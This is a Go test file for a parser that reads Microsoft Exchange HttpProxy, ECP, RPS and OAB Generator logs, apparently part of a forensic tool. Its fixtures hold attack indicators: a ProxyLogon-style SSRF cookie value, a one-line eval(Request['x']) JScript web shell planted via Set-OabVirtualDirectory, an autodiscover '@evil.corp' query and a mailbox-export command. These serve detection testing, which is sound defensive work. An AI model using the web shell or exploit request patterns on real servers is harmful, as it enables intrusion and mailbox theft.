package exlog_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"math/rand"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/exhunt/exhunt/event"
	"github.com/exhunt/exhunt/parse"
	"github.com/exhunt/exhunt/parse/exlog"
)

type rec struct {
	line   int64
	source event.Source
	vals   []string
	f      map[event.Field]string
	get    map[string]string
	t      time.Time
	tok    bool
}

var fields = []event.Field{event.FMethod, event.FStem, event.FQuery, event.FStatus, event.FClientIP, event.FUserAgent, event.FUser}

func run(t *testing.T, in io.Reader, src event.Source, getNames ...string) ([]rec, parse.Stats, error) {
	t.Helper()
	var out []rec
	st, err := exlog.Parse(context.Background(), in, parse.Meta{Path: "Logging/x.LOG", Host: "ex01", Source: src}, func(ev *event.Event) error {
		r := rec{line: ev.Loc.Line, source: ev.Source, vals: append([]string(nil), ev.Values()...), f: map[event.Field]string{}, get: map[string]string{}}
		for _, f := range fields {
			r.f[f] = ev.F(f)
		}
		for _, n := range getNames {
			r.get[n] = ev.Get(n)
		}
		r.t, r.tok = ev.Time()
		out = append(out, r)
		return nil
	})
	return out, st, err
}

func ts(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

var proxyFields = strings.Join(exlog.HTTPProxyFields, ",")

const proxyHead = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2375.007\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-02T07:00:00.000Z\r\n"

// proxyRow builds an HttpProxy row for the given column set from a few
// named values; the rest are empty.
func proxyRow(names []string, v map[string]string) string {
	out := make([]string, len(names))
	for i, n := range names {
		out[i] = v[strings.ToLower(n)]
	}
	return strings.Join(out, ",")
}

var ssrf = map[string]string{
	"datetime": "2021-03-02T07:11:04.546Z", "requestid": "1a51fb75-2f6f-4a40-8129-ff80098494a0", "protocol": "Ecp", "urlhost": "mail.example.org",
	"urlstem": "/ecp/y.js", "authenticatedUser": "", "anchormailbox": "ServerInfo~a]@EX01.corp.local:444/autodiscover/autodiscover.xml?#",
	"useragent": "ExchangeServicesClient/0.0.0.0", "clientipaddress": "203.0.113.66", "httpstatus": "200", "backendstatus": "200", "method": "POST",
	"targetserver": "EX01.corp.local", "routingtype": "CrossRegion", "routinghint": "X-BEResource-Cookie", "urlquery": "?&CorrelationID=<empty>;&cafeReqId=abc;",
}

func TestHTTPProxyHeader(t *testing.T) {
	in := proxyHead + "#Fields: " + proxyFields + "\r\n" + proxyRow(exlog.HTTPProxyFields, ssrf) + "\r\n"
	out, st, err := run(t, strings.NewReader(in), event.HTTPProxy, "AnchorMailbox", "RoutingHint", "backendstatus", "UrlHost")
	if err != nil || len(out) != 1 {
		t.Fatalf("err=%v n=%d", err, len(out))
	}
	r := out[0]
	if r.line != 6 || r.source != event.HTTPProxy || len(r.vals) != len(exlog.HTTPProxyFields) {
		t.Errorf("line %d source %v vals %d", r.line, r.source, len(r.vals))
	}
	want := map[event.Field]string{event.FMethod: "POST", event.FStem: "/ecp/y.js", event.FQuery: "?&CorrelationID=<empty>;&cafeReqId=abc;", event.FStatus: "200", event.FClientIP: "203.0.113.66", event.FUserAgent: "ExchangeServicesClient/0.0.0.0", event.FUser: ""}
	for f, v := range want {
		if r.f[f] != v {
			t.Errorf("F(%d) = %q want %q", f, r.f[f], v)
		}
	}
	if r.get["AnchorMailbox"] != ssrf["anchormailbox"] || r.get["RoutingHint"] != "X-BEResource-Cookie" || r.get["backendstatus"] != "200" || r.get["UrlHost"] != "mail.example.org" {
		t.Errorf("get: %v", r.get)
	}
	if !r.tok || !r.t.Equal(ts("2021-03-02T07:11:04.546Z")) || r.t.Location() != time.UTC {
		t.Errorf("time %v", r.t)
	}
	if st.Lines != 6 || st.Records != 1 || st.Malformed != 0 || !st.First.Equal(r.t) || !st.Last.Equal(r.t) {
		t.Errorf("stats %+v", st)
	}
}

func TestColumnCaseAndOldBuild(t *testing.T) {
	// An old build: no UrlHost, RoutingType, RoutingHint; columns spelled
	// BackendStatus/BackendCookie; different order.
	old := []string{"DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion", "ClientRequestId", "Protocol", "UrlStem", "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName", "HttpStatus", "BackendStatus", "ErrorCode", "Method", "ProxyAction", "TargetServer", "TargetServerVersion", "BackendCookie", "UrlQuery", "GenericInfo", "GenericErrors"}
	in := proxyHead + "#Fields: " + strings.Join(old, ",") + "\r\n" + proxyRow(old, ssrf) + "\r\n"
	out, _, err := run(t, strings.NewReader(in), event.HTTPProxy, "BackEndStatus", "backendcookie", "UrlHost", "RoutingType", "ANCHORMAILBOX")
	if err != nil || len(out) != 1 {
		t.Fatalf("err=%v n=%d", err, len(out))
	}
	r := out[0]
	if r.get["BackEndStatus"] != "200" || r.get["UrlHost"] != "" || r.get["RoutingType"] != "" || r.get["ANCHORMAILBOX"] != ssrf["anchormailbox"] {
		t.Errorf("get %v", r.get)
	}
	if r.f[event.FStem] != "/ecp/y.js" || r.f[event.FMethod] != "POST" || r.f[event.FStatus] != "200" || r.f[event.FQuery] != ssrf["urlquery"] {
		t.Errorf("F %v", r.f)
	}
}

// A header-less row as pasted in a report: the HttpProxy column set is
// assumed, and a row with a few columns missing at the end still maps.
func TestHeaderlessHTTPProxy(t *testing.T) {
	row := proxyRow(exlog.HTTPProxyFields[:68], map[string]string{
		"datetime": "2021-03-07T15:04:04.546Z", "protocol": "Owa", "urlhost": "[REDACTED]", "urlstem": "/owa/auth/x.js", "authenticationtype": "FBA", "isauthenticated": "false",
		"anchormailbox": "ServerInfo~localhost/ecp/default.flt?", "useragent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/69.0.3497.81 Safari/537.36",
		"httpstatus": "500", "backendstatus": "500", "method": "GET", "proxyaction": "Proxy", "targetserver": "localhost", "targetserverversion": "0.00.0003.000",
		"routingtype": "CrossRegion", "routinghint": "X-AnonResource-Backend-Cookie", "genericinfo": "BeginRequest=2021-03-07T15:04:04.167Z;CorrelationID=<empty>;ProxyState-Run=None",
	})
	for _, src := range []event.Source{event.HTTPProxy} {
		out, st, err := run(t, strings.NewReader(row), src, "AnchorMailbox", "TargetServerVersion", "RoutingHint", "RoutingStatus")
		if err != nil || len(out) != 1 || st.Lines != 1 || st.Records != 1 {
			t.Fatalf("err=%v n=%d %+v", err, len(out), st)
		}
		r := out[0]
		if r.line != 1 || r.f[event.FStem] != "/owa/auth/x.js" || r.f[event.FStatus] != "500" || r.get["AnchorMailbox"] != "ServerInfo~localhost/ecp/default.flt?" ||
			r.get["TargetServerVersion"] != "0.00.0003.000" || r.get["RoutingHint"] != "X-AnonResource-Backend-Cookie" || r.get["RoutingStatus"] != "" || !strings.HasPrefix(r.f[event.FUserAgent], "Mozilla/5.0 (Macintosh;") {
			t.Errorf("%+v", r)
		}
		if !st.First.Equal(ts("2021-03-07T15:04:04.546Z")) {
			t.Errorf("first %v", st.First)
		}
	}
}

func TestSplitQuoting(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"", []string{""}},
		{"a", []string{"a"}},
		{"a,,b,", []string{"a", "", "b", ""}},
		{`"a,b",c`, []string{"a,b", "c"}},
		{`"say ""hi""",x`, []string{`say "hi"`, "x"}},
		{`"",""""`, []string{"", `"`}},
		{`"unterminated,still one`, []string{"unterminated,still one"}},
		{`"unterminated ""x"" tail`, []string{`unterminated "x" tail`}},
		{`"a"junk,b`, []string{"a", "b"}},
		{`a"b,c`, []string{`a"b`, "c"}},
		{`x,"`, []string{"x", ""}},
		{`x,"""`, []string{"x", `"`}},
	}
	for _, c := range cases {
		got := exlog.Split([]byte(c.in), nil)
		if len(got) != len(c.want) || strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("Split(%q) = %q want %q", c.in, got, c.want)
		}
	}
	raw := []byte(`abc,"d""e",f`)
	got := exlog.Split(raw, []string{"keep"})
	copy(raw, "XXXXXXXXXXXX")
	if len(got) != 4 || got[0] != "keep" || got[1] != "abc" || got[2] != `d"e` || got[3] != "f" {
		t.Errorf("values alias the raw row or dst not kept: %q", got)
	}
}

func TestQuotedFieldsInRow(t *testing.T) {
	in := "#Fields: DateTime,UrlStem,UserAgent,GenericInfo,HttpStatus\n" +
		`2021-03-02T07:11:04Z,/owa/,"Mozilla/5.0 (KHTML, like Gecko)","a=""b"",c",200` + "\n" +
		`"2021-03-02T07:11:05Z",/ecp/,UA,x,"302"` + "\n"
	out, st, err := run(t, strings.NewReader(in), event.HTTPProxy, "GenericInfo")
	if err != nil || len(out) != 2 {
		t.Fatalf("err=%v n=%d", err, len(out))
	}
	if out[0].f[event.FUserAgent] != "Mozilla/5.0 (KHTML, like Gecko)" || out[0].get["GenericInfo"] != `a="b",c` || out[0].f[event.FStatus] != "200" {
		t.Errorf("%+v", out[0])
	}
	if out[1].f[event.FStatus] != "302" || !out[1].tok || !st.Last.Equal(ts("2021-03-02T07:11:05Z")) {
		t.Errorf("quoted time: %+v %+v", out[1], st)
	}
}

const ecpHead = "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"

// csvQuote quotes a value the way Exchange does when it holds a comma or quote.
func csvQuote(s string) string {
	if strings.ContainsAny(s, `",`) {
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	return s
}

func TestECPServerExtras(t *testing.T) {
	script := `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'`
	data1 := "S:TIME=290;S:SID=S-1-5-21-1-2-3-500;S:CMD=" + script + ".Identity='EX01\\OAB (Default Web Site)';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=xyz;S:REFERRER=;S:EX=;S:ACTID=a1;S:RS=0;S:BLD=15.1.2176.2;S:ACID="
	data2 := "S:TIME=13;S:CMD=Get-InboxRule;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;I32:RS=0;Dbl:LAT=1.5;S:EX=System.Exception: a;b:c=d;S:TNAME=<null>;"
	in := ecpHead +
		"2021-03-03T04:12:01.271Z,EX01,ECP.Request," + csvQuote(data1) + "\r\n" +
		"2021-03-03T04:12:02.000Z,EX01,ECP.Request," + data2 + "\r\n" +
		"2021-03-03T04:12:03.000Z,EX01,ECP.Request,\r\n" +
		"2021-03-03T04:12:04.000Z,EX01,ECP.Request,garbage without pairs;;=;:=x\r\n"
	out, st, err := run(t, strings.NewReader(in), event.ECPServer, "CMD", "URL", "cmd", "REQID", "ACID", "EX", "LAT", "RS", "TNAME", "SID", "EventId", "c", "nope")
	if err != nil || len(out) != 4 {
		t.Fatalf("err=%v n=%d", err, len(out))
	}
	a := out[0]
	if a.source != event.ECPServer || a.line != 6 {
		t.Errorf("source %v line %d", a.source, a.line)
	}
	if want := script + ".Identity='EX01\\OAB (Default Web Site)'"; a.get["CMD"] != want || a.get["cmd"] != want {
		t.Errorf("CMD = %q\nwant  %q", a.get["CMD"], want)
	}
	if a.get["URL"] != "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=xyz" || a.get["REQID"] != "" || a.get["ACID"] != "" || a.get["SID"] != "S-1-5-21-1-2-3-500" || a.get["EventId"] != "ECP.Request" {
		t.Errorf("extras %v", a.get)
	}
	b := out[1]
	if b.get["CMD"] != "Get-InboxRule" || b.get["LAT"] != "1.5" || b.get["RS"] != "0" || b.get["EX"] != "System.Exception: a;b:c=d" || b.get["TNAME"] != "<null>" || b.get["c"] != "" {
		t.Errorf("typed tags / lower-case tag not a pair / trailing ';': %v", b.get)
	}
	if out[2].get["CMD"] != "" || out[3].get["CMD"] != "" || out[3].get["nope"] != "" {
		t.Errorf("empty/garbage EventData: %v %v", out[2].get, out[3].get)
	}
	// Extras do not leak from one row to the next (the event is reused).
	if out[2].get["URL"] != "" || out[2].get["SID"] != "" {
		t.Errorf("leaked extras %v", out[2].get)
	}
	if !st.First.Equal(ts("2021-03-03T04:12:01.271Z")) || !st.Last.Equal(ts("2021-03-03T04:12:04Z")) || st.Records != 4 || st.Lines != 9 {
		t.Errorf("stats %+v", st)
	}
}

func TestLogTypeOverride(t *testing.T) {
	ecpRow := "2021-03-03T04:12:02.000Z,EX01,ECP.Request,S:CMD=Get-Mailbox;S:URL=/ecp/x\n"
	cases := []struct {
		name  string
		meta  event.Source
		in    string
		want  event.Source
		cmd   string
		stem  string
		nvals int
	}{
		{"activity header", event.ECPServer, "#Log-type: ECP Activity Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n" + ecpRow, event.ECPActivity, "Get-Mailbox", "", 4},
		{"server from unknown, no fields", event.Unknown, "#Log-type: ECP Server Log\n" + ecpRow, event.ECPServer, "Get-Mailbox", "", 4},
		{"httpproxy from unknown, no fields", event.Unknown, "#Log-type: HttpProxy Logs\n" + proxyRow(exlog.HTTPProxyFields, ssrf) + "\n", event.HTTPProxy, "", "/ecp/y.js", 74},
		{"rps from httpproxy", event.HTTPProxy, "#Log-type: Rps_Http Logs\n" + proxyRow(exlog.RpsHTTPFields, map[string]string{"datetime": "2022-09-29T10:00:00Z", "urlstem": "/powershell", "clientinfo": "python-requests/2.28"}) + "\n", event.RpsHTTP, "", "/powershell", 38},
		{"oab", event.HTTPProxy, "#Log-type: OAB Generator Log\n#Fields: Timestamp,Message\n2021-03-03T04:12:02.000Z,x\n", event.OABGen, "", "", 2},
		{"unknown log-type keeps meta", event.ECPActivity, "#Log-type: Something Else\n" + ecpRow, event.ECPActivity, "Get-Mailbox", "", 4},
		{"fields before log-type stay", event.Unknown, "#Fields: TimeStamp,ServerName,EventId,EventData\n#Log-type: ECP Server Log\n" + ecpRow, event.ECPServer, "Get-Mailbox", "", 4},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out, _, err := run(t, strings.NewReader(c.in), c.meta, "CMD")
			if err != nil || len(out) != 1 {
				t.Fatalf("err=%v n=%d", err, len(out))
			}
			if out[0].source != c.want || out[0].get["CMD"] != c.cmd || out[0].f[event.FStem] != c.stem || len(out[0].vals) != c.nvals || !out[0].tok {
				t.Errorf("%+v", out[0])
			}
		})
	}
}

func TestRpsHTTP(t *testing.T) {
	in := "#Software: Microsoft Exchange Server\n#Log-type: Rps_Http Logs\n#Fields: " + strings.Join(exlog.RpsHTTPFields, ",") + "\n" +
		proxyRow(exlog.RpsHTTPFields, map[string]string{"datetime": "2022-09-29T10:00:00.123Z", "urlhost": "ex01.corp.local", "urlstem": "/powershell", "authenticateduser": "CORP\\svc",
			"clientipaddress": "10.0.0.9 203.0.113.5", "httpstatus": "200", "commandname": "New-MailboxExportRequest", "clientinfo": "python-requests/2.28.1",
			"urlquery": "?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp"}) + "\n"
	out, st, err := run(t, strings.NewReader(in), event.RpsHTTP, "CommandName", "UrlHost")
	if err != nil || len(out) != 1 {
		t.Fatalf("err=%v n=%d", err, len(out))
	}
	r := out[0]
	if r.source != event.RpsHTTP || r.f[event.FUserAgent] != "python-requests/2.28.1" || r.f[event.FClientIP] != "10.0.0.9 203.0.113.5" || r.f[event.FUser] != "CORP\\svc" ||
		r.get["CommandName"] != "New-MailboxExportRequest" || !strings.Contains(r.f[event.FQuery], "X-Rps-CAT=") || r.f[event.FMethod] != "" {
		t.Errorf("%+v", r)
	}
	if !st.First.Equal(ts("2022-09-29T10:00:00.123Z")) || r.line != 4 {
		t.Errorf("%+v line %d", st, r.line)
	}
}

func TestOABGenerator(t *testing.T) {
	// Without a header (no known column set) every text line is a record.
	in := "2021-03-03T05:00:01.000Z Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx' needs to be removed\n" +
		"OABGeneratorAssistant: processing OAB 'Default Offline Address Book'\n"
	out, st, err := run(t, strings.NewReader(in), event.OABGen)
	if err != nil || len(out) != 2 || st.Records != 2 || st.Malformed != 0 || out[0].source != event.OABGen || out[1].line != 2 {
		t.Fatalf("err=%v %+v %+v", err, out, st)
	}
	// With a header, rows are CSV as usual.
	in = "#Log-type: OABGenerator Log\n#Fields: date-time,thread-id,level,message\n" +
		`2021-03-03T05:00:01.000Z,12,Error,"Download failed and temporary file 'C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\temp\x.lzx' needs to be removed, retrying"` + "\n"
	out, st, err = run(t, strings.NewReader(in), event.Unknown, "message")
	if err != nil || len(out) != 1 || out[0].source != event.OABGen || !strings.HasSuffix(out[0].get["message"], "needs to be removed, retrying") || !st.First.Equal(ts("2021-03-03T05:00:01Z")) {
		t.Fatalf("err=%v %+v %+v", err, out, st)
	}
}

func TestTimeAndStats(t *testing.T) {
	in := "#Fields: RequestId,DateTime,UrlStem\n" +
		"a,2021-03-02T10:00:00.5Z,/1\n" +
		"b,2021-03-02T09:00:00Z,/2\n" +
		"c,2021-02-30T09:00:00Z,/3\n" +
		"d,not a time,/4\n" +
		"e,2021-03-02T11:00:00+02:00,/5\n" +
		"f,2021-03-02T10:30:00,/6\n"
	out, st, err := run(t, strings.NewReader(in), event.HTTPProxy)
	if err != nil || len(out) != 6 {
		t.Fatalf("err=%v n=%d", err, len(out))
	}
	if out[2].tok || out[3].tok || !out[4].tok || !out[4].t.Equal(ts("2021-03-02T09:00:00Z")) || !out[5].t.Equal(ts("2021-03-02T10:30:00Z")) {
		t.Errorf("times %+v", out)
	}
	if !st.First.Equal(ts("2021-03-02T09:00:00Z")) || !st.Last.Equal(ts("2021-03-02T10:30:00Z")) || st.Records != 6 || st.Lines != 7 {
		t.Errorf("stats %+v", st)
	}
	s := exlog.NewSchema(exlog.ECPFields)
	if tm, ok := exlog.Time(s, []string{"2021-03-02T10:00:00Z"}); !ok || !tm.Equal(ts("2021-03-02T10:00:00Z")) {
		t.Errorf("Time %v", tm)
	}
	if _, ok := exlog.Time(s, nil); ok {
		t.Error("Time on no values")
	}
}

// ---- hostile input ----

func TestTruncatedRows(t *testing.T) {
	full := proxyRow(exlog.HTTPProxyFields, ssrf)
	quoted := `2021-03-02T07:11:05Z,r2,15,1,2375,7,,Owa,host,/owa/,,,,,,"ServerInfo~a]@EX01:444/ecp/proxyLogon.ecp?#,`
	in := proxyHead + "#Fields: " + proxyFields + "\n" + full + "\n" + full[:40] + "\n" + full[:len(full)-30] + "\n" + quoted + "\n" + full + "\n"
	out, st, err := run(t, strings.NewReader(in), event.HTTPProxy, "AnchorMailbox")
	if err != nil {
		t.Fatal(err)
	}
	// full[:40] is cut mid-field with 3 columns: skipped. The others keep
	// at least half of the columns... except the quoted one, cut mid-quote
	// with 16 commas: skipped too.
	if st.Records != 3 || st.Malformed != 2 || len(st.Problems) != 1 || out[1].line != 8 || out[2].line != 10 {
		t.Fatalf("%+v %v", st, out)
	}
	if out[1].get["AnchorMailbox"] != ssrf["anchormailbox"] {
		t.Errorf("cut row: %q", out[1].get["AnchorMailbox"])
	}
	// Cut mid-quote but long enough: the quote runs to the end of the line.
	row := strings.Repeat("x,", 40) + `"ServerInfo~a]@EX01:444/ecp/,DDI`
	out, _, err = run(t, strings.NewReader("#Fields: "+proxyFields+"\n"+row), event.HTTPProxy)
	if err != nil || len(out) != 1 || out[0].vals[40] != "ServerInfo~a]@EX01:444/ecp/,DDI" || len(out[0].vals) != 41 {
		t.Fatalf("err=%v %+v", err, out)
	}
}

func TestLongLine(t *testing.T) {
	row := proxyRow(exlog.HTTPProxyFields, ssrf) + "\r\n"
	in := io.MultiReader(strings.NewReader(proxyHead+"#Fields: "+proxyFields+"\r\n"+row), strings.NewReader("2021-03-09T00:00:00Z,"+strings.Repeat(`"A,`, 4<<20)+"\r\n"), strings.NewReader(row+row))
	out, st, err := run(t, in, event.HTTPProxy)
	if err != nil || len(out) != 3 || out[1].line != 8 || out[2].line != 9 || st.Malformed != 1 || st.Lines != 9 || len(st.Problems) != 1 {
		t.Fatalf("err=%v n=%d %+v", err, len(out), st)
	}
	if !st.Last.Equal(ts("2021-03-02T07:11:04.546Z")) {
		t.Errorf("skipped line touched Last: %v", st.Last)
	}
}

func TestBinary(t *testing.T) {
	garbage := make([]byte, 1<<16)
	rand.New(rand.NewSource(5)).Read(garbage)
	for _, src := range []event.Source{event.HTTPProxy, event.ECPServer, event.OABGen, event.Unknown} {
		out, _, err := run(t, bytes.NewReader(garbage), src)
		if !errors.Is(err, parse.ErrBinary) || len(out) != 0 {
			t.Fatalf("%v: err=%v n=%d", src, err, len(out))
		}
	}
}

func TestInvalidUTF8(t *testing.T) {
	in := ecpHead + "2021-03-03T04:12:01Z,EX\xff01,ECP.Request,S:CMD=Set-\xc0\xafMailbox;S:URL=/ecp/\xed\xa0\x80\r\n"
	out, _, err := run(t, strings.NewReader(in), event.ECPServer, "CMD", "URL")
	if err != nil || len(out) != 1 || out[0].get["CMD"] != "Set-\xc0\xafMailbox" || out[0].get["URL"] != "/ecp/\xed\xa0\x80" {
		t.Fatalf("err=%v %+v", err, out)
	}
}

func TestEmptyAndHeaderOnly(t *testing.T) {
	for name, in := range map[string]string{"empty": "", "header only": proxyHead + "#Fields: " + proxyFields + "\r\n", "bom header": "\xEF\xBB\xBF" + ecpHead} {
		out, st, err := run(t, strings.NewReader(in), event.HTTPProxy)
		if err != nil || len(out) != 0 || st.Records != 0 || st.Malformed != 0 || !st.First.IsZero() || st.Lines != int64(strings.Count(in, "\n")) {
			t.Errorf("%s: err=%v n=%d %+v", name, err, len(out), st)
		}
	}
}

type failReader struct {
	data []byte
	err  error
}

func (f *failReader) Read(p []byte) (int, error) {
	if len(f.data) == 0 {
		return 0, f.err
	}
	n := copy(p, f.data[:min(len(f.data), 333)])
	f.data = f.data[n:]
	return n, nil
}

func TestReaderError(t *testing.T) {
	boom := errors.New("smb share went away")
	in := ecpHead + "2021-03-03T04:12:01Z,EX01,ECP.Request,S:CMD=Get-Mailbox\r\n2021-03-03T04:13:01Z,EX01,ECP.Request,S:CMD=Get-Mailbox\r\n2021-03-03T04:14"
	out, st, err := run(t, &failReader{[]byte(in), boom}, event.ECPServer)
	if !errors.Is(err, boom) || len(out) != 2 || st.Records != 2 || !st.Last.Equal(ts("2021-03-03T04:13:01Z")) {
		t.Fatalf("err=%v n=%d %+v", err, len(out), st)
	}
}

func TestContextCancel(t *testing.T) {
	row := proxyRow(exlog.HTTPProxyFields, ssrf) + "\n"
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	n := 0
	st, err := exlog.Parse(ctx, strings.NewReader(strings.Repeat(row, 5000)), parse.Meta{Source: event.HTTPProxy}, func(*event.Event) error {
		if n++; n == 10 {
			cancel()
		}
		return nil
	})
	if !errors.Is(err, context.Canceled) || st.Records >= 5000 || st.Records < 10 {
		t.Fatalf("err=%v %+v", err, st)
	}
	st, err = exlog.Parse(ctx, strings.NewReader(row), parse.Meta{Source: event.HTTPProxy}, func(*event.Event) error { return nil })
	if !errors.Is(err, context.Canceled) || st.Records != 0 {
		t.Fatalf("pre-cancelled: err=%v %+v", err, st)
	}
}

func TestFixtureFile(t *testing.T) {
	f, err := os.Open("testdata/ECPServer20210303-1.LOG")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out, st, err := run(t, f, event.ECPServer, "CMD", "URL")
	if err != nil || len(out) != 3 || st.Lines != 8 || st.Malformed != 0 {
		t.Fatalf("err=%v n=%d %+v", err, len(out), st)
	}
	if !strings.HasPrefix(out[1].get["CMD"], "Set-OabVirtualDirectory.ExternalUrl='http://o/#<script") || !strings.HasSuffix(out[1].get["CMD"], "</script>'") || out[1].line != 7 {
		t.Errorf("%q", out[1].get["CMD"])
	}
	if !st.First.Equal(ts("2021-03-03T04:11:58.120Z")) || !st.Last.Equal(ts("2021-03-03T04:12:30.002Z")) {
		t.Errorf("%+v", st)
	}
}
